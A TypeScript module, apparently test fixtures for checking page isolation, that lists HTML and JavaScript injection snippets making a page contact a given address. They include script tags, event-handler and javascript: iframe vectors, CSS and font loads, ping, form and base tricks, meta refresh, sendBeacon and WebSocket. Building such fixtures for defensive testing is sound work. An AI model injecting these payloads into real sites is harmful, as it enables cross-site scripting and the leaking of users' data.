/** Makes markup that asks for an address. */
type Attack = (address: string) => string;

/** A request that needs nobody's permission, as a script makes it. */
const asks: Attack = (it) => `fetch('${it}', { mode: 'no-cors' })`;

/**
 * What asks for an address as soon as it is in a page, each in another way. Nothing here is for a sanitiser: it
 * stands for what has got past one.
 */
export const BY_ITSELF: Readonly<Record<string, Attack>> = {
  script: (it) => `<script>${asks(it)}</script>`,
  "script-elsewhere": (it) => `<script src="${it}"></script>`,
  module: (it) => `<script type="module">import "${it}"</script>`,
  handler: (it) => `<img src="data:," alt="" onerror="${asks(it)}">`,
  "svg-handler": (it) => `<svg onload="${asks(it)}"></svg>`,
  "javascript-frame": (it) => `<iframe src="javascript:parent.${asks(it)}"></iframe>`,
  "frame-in-place": (it) => `<iframe srcdoc="<script>${asks(it)}</script>"></iframe>`,
  "data-frame": (it) => `<iframe src="data:text/html,<script>${asks(it)}</script>"></iframe>`,
  frame: (it) => `<iframe src="${it}"></iframe>`,
  object: (it) => `<object data="${it}"></object>`,
  embed: (it) => `<embed src="${it}">`,
  picture: (it) => `<img src="${it}" alt="">`,
  "picture-set": (it) => `<img srcset="${it} 1x" alt="">`,
  "picture-in-svg": (it) => `<svg><image href="${it}" width="9" height="9"/></svg>`,
  "picture-of-input": (it) => `<input type="image" src="${it}" alt="">`,
  poster: (it) => `<video poster="${it}"></video>`,
  video: (it) => `<video src="${it}" autoplay muted></video>`,
  audio: (it) => `<audio src="${it}" autoplay></audio>`,
  "style-sheet": (it) => `<link rel="stylesheet" href="${it}">`,
  "style-import": (it) => `<style>@import "${it}";</style>`,
  "style-picture": (it) => `<style>#styled { background: url(${it}) }</style><p id="styled">x</p>`,
  "style-attribute": (it) => `<p style="background: url(${it})">x</p>`,
  font: (it) =>
    `<style>@font-face { font-family: f; src: url(${it}) } #lettered { font-family: f }</style><p id="lettered">x</p>`,
  preload: (it) => `<link rel="preload" as="image" href="${it}">`,
  "module-preload": (it) => `<link rel="modulepreload" href="${it}">`,
};

/** The same once somebody has clicked on it. */
export const BY_A_CLICK: Readonly<Record<string, Attack>> = {
  "javascript-link": (it) => `<a href="javascript:void ${asks(it)}">x</a>`,
  ping: (it) => `<a href="#x" ping="${it}">x</a>`,
  form: (it) => `<form action="${it}" method="post"><button>x</button></form>`,
  base: (it) => `<base href="${it}"><a href="#x">x</a>`,
};

/** Leaves the page by itself. */
export const LEAVES: Attack = (it) => `<meta http-equiv="refresh" content="0; url=${it}">`;

/** Scripts that ask for an address, for a page in which a script runs all the same. */
export const BY_SCRIPT: Readonly<Record<string, Attack>> = {
  fetch: (it) => `${asks(it)}.catch(() => 0)`,
  beacon: (it) => `navigator.sendBeacon('${it}')`,
  socket: (it) => `new WebSocket('${it.replace("http", "ws")}')`,
  events: (it) => `new EventSource('${it}')`,
};
